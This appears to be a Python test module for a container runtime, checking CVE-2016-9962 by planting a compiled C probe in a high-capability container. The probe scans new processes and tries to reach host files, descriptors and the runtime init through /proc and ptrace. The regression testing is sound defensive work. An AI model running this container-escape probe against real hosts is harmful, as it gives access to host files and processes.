"""A program that looks into every init that comes, for what a pod mate must not get of it (CVE-2016-9962)."""

from __future__ import annotations

from pathlib import Path

from containers import Bundle, Container, compile_static

# Without a pause it tries every process that comes: to open a file of the host by way of it, to list its descriptors,
# and to trace it. What it gets of a program that the image holds is its right.
SPY = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>
static char path[600], exe[256];
static const char *of(int pid, const char *name)
{
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    return path;
}
static int is_init(int pid)
{
    long size = readlink(of(pid, "exe"), exe, sizeof exe - 1);
    exe[size < 0 ? 0 : size] = 0;
    return strstr(exe, "pyoci") != 0;
}
static int is_named_init(int pid)
{
    char comm[32] = "";
    int fd = open(of(pid, "comm"), O_RDONLY);
    int is = read(fd, comm, sizeof comm - 1) > 0 && (strstr(comm, "pyoci") || (comm[0] >= '0' && comm[0] <= '9'));
    close(fd);
    return is;
}
int main(int argc, char **argv)
{
    char host[512];
    (void)argc;
    snprintf(host, sizeof host, "root%s", argv[1]);
    puts("ready"), fflush(stdout);
    for (int newest = getpid();;)
        for (int pid = newest + 1; pid < newest + 60; pid++) {
            if (access(of(pid, ""), F_OK))
                continue;
            if (pid > newest + 50)
                newest = pid - 10;
            if (open(of(pid, host), O_RDWR) >= 0)
                printf("root of %d\n", pid), fflush(stdout), exit(0);
            if (is_init(pid))
                printf("exe of %d is %s\n", pid, exe), fflush(stdout), exit(0);
            int fd = open(of(pid, "fd"), O_RDONLY);
            if (fd >= 0 && is_init(pid))
                printf("descriptors of %d\n", pid), fflush(stdout), exit(0);
            close(fd);
            if (is_named_init(pid) && !ptrace(PTRACE_SEIZE, pid, 0, 0)) {
                if (is_init(pid))
                    printf("traced %d\n", pid), fflush(stdout), exit(0);
                ptrace(PTRACE_INTERRUPT, pid, 0, 0), waitpid(pid, 0, __WALL), ptrace(PTRACE_DETACH, pid, 0, 0);
            }
        }
}
"""
CAPABILITIES = ("CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_SYS_ADMIN", "CAP_KILL", "CAP_FOWNER")


def spying(bundle: Bundle, secret: Path) -> Bundle:
    """Makes the container one that spies, with every capability for it; `secret` is a file of the host that it looks
    for. It says "ready", and goes on without another word for as long as it gets nothing."""
    compile_static(SPY, bundle.rootfs / "spy")
    return bundle.capabilities(*CAPABILITIES).args("/spy", str(secret))


def mate_of(victim: Bundle, spy: Container) -> None:
    """Makes the container one that joins the namespaces of `spy`."""
    victim.linux.pop("uidMappings", None), victim.linux.pop("gidMappings", None)
    own = {namespace["type"] for namespace in spy.bundle.linux["namespaces"]}
    for kind, name in (("user", "user"), ("pid", "pid"), ("network", "net"), ("ipc", "ipc"), ("uts", "uts")):
        if kind in own:
            victim.namespace(kind, f"/proc/{spy.pid}/ns/{name}")
    victim.unmount("/sys")
